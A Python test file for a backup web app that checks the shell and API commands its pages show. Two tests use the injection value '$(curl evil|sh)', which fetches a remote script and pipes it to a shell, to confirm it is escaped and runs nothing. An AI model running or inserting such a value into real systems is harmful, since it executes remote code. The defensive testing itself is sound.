"""What the pages say to do from a shell or a script is there, and does what it says."""

from __future__ import annotations

import html
import json
import re
import shlex

import click
import pytest

from core.points import points
from tests.webapp.api.conftest import Caller, make_token
from tests.webapp.conftest import As
from tests.webapp.html import problems_of
from tests.webapp.world import World
from webapp import equivalents
from webapp.api import names
from webapp.equivalents import PAGES, Deed

DEEDS = [deed for deeds in PAGES.values() for deed in deeds]


def test_each_page_command_and_call_is_there(world: World) -> None:
    endpoints = {rule.endpoint for rule in world.app.url_map.iter_rules()}
    assert set(PAGES) <= endpoints
    for deed in DEEDS:
        assert equivalents.operation(deed).name == deed.call
        assert _takes(world, deed), deed.command
        body = equivalents.operation(deed).body
        sent = {names.to_snake(name) for name in deed.body or {}}
        fields = set(body.model.model_fields if body else ())
        assert sent <= fields or fields == {"root"}, deed.call  # one of several shapes


def _takes(world: World, deed: Deed) -> bool:
    """Tell whether a command is there and knows all options that are named."""
    found: click.Command = world.app.cli
    words = deed.command.split()
    while words and isinstance(found, click.Group):
        found = found.commands[words.pop(0)]
    known = {option for each in found.params for option in each.opts}
    return {word for word in words if word.startswith("--")} <= known


@pytest.mark.parametrize("role", ["viewer", "admin"])
def test_a_page_shows_what_its_reader_may_do(role: str, world: World, as_: As) -> None:
    page = as_(role).get(f"/points/{world.point_id}").text
    assert problems_of(page) == []
    assert (f"backup pin {world.point_id}" in page) == (role == "admin")
    assert "/api/backup/points" in page or role == "viewer"


def test_what_it_says_can_be_pasted(world: World, as_: As) -> None:
    page = html.unescape(as_("admin").get(f"/points/{world.point_id}").text)
    found = re.search(r"^(curl .*/pin)</pre>$", page, re.MULTILINE)
    assert found is not None
    words = shlex.split(found[1])
    path = re.sub(r"^https?://[^/]+/api/backup", "", words[-1])
    admin = Caller(world.app, make_token(world.app, "admin"))
    admin.send(words[words.index("-X") + 1], path, json.loads(words[words.index("--json") + 1]))
    with world.app.app_context():
        assert points.get(world.point_id).pin_note == "why"


def test_nothing_is_said_of_what_is_gone(world: World, as_: As) -> None:
    for path in ("/configs/$(curl evil|sh)", "/hosts/no-such-host", "/jobs/99999"):
        page = as_("admin").get(path)
        assert (page.status_code, 'id="deeds"' in page.text) == (404, False)


def test_what_stands_in_an_address_runs_nothing_in_a_shell(world: World) -> None:
    deed = PAGES["configs.show"][0]
    with world.app.test_request_context():
        call = equivalents._curl(deed, {"config_id": "$(curl evil|sh) `x`;"})
    assert not set("`|;") & set(call)
    assert shlex.split(call)[-1].endswith("/%24%28curl%20evil%7Csh%29%20%60x%60%3B/backup")
